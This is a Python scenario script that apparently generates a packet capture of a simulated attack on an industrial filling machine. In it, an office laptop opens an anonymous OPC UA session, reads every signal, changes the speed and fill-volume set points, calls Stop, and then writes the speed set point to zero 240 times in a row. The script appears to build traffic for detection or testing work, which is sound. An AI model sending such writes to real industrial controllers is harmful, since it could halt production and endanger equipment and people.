"""A laptop in the office network opens an anonymous session, changes set points of the filler and stops it."""

from __future__ import annotations

from pcaps.scenarios.rig.line import make_scenario
from pcaps.scenarios.rig.machine import FILLING, node_id
from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.supervisor import Login, call, open_client, server_url, write

_HAMMERED = 240
"""Writes to one set point, one after the other."""


async def attack(stage: Stage) -> None:
    """Read, write twice, call Stop, then hold a set point down by writing it over and over."""
    await stage.until(40)
    stage.mark()
    async with open_client(stage, server_url(FILLING), Login("opcclient")) as client:
        for signal in FILLING.signals:
            await client.get_node(node_id(FILLING, signal.name)).read_value()
        await stage.until(55)
        stage.mark()
        await write(FILLING, "SpeedSetpoint", 260.0)(client)
        await stage.wait(5)
        await write(FILLING, "FillVolume", 610.0)(client)
        await stage.until(75)
        stage.mark()
        await call(FILLING, "Stop")(client)
        await stage.until(90)
        stage.mark()
        for _ in range(_HAMMERED):
            await write(FILLING, "SpeedSetpoint", 0.0)(client)


SCENARIO = make_scenario(
    "opcua_setpoint_write.pcap.gz", 34, 120, {"laptop": attack}, time_scale=4, slack=3.0, strangers=("laptop",)
)
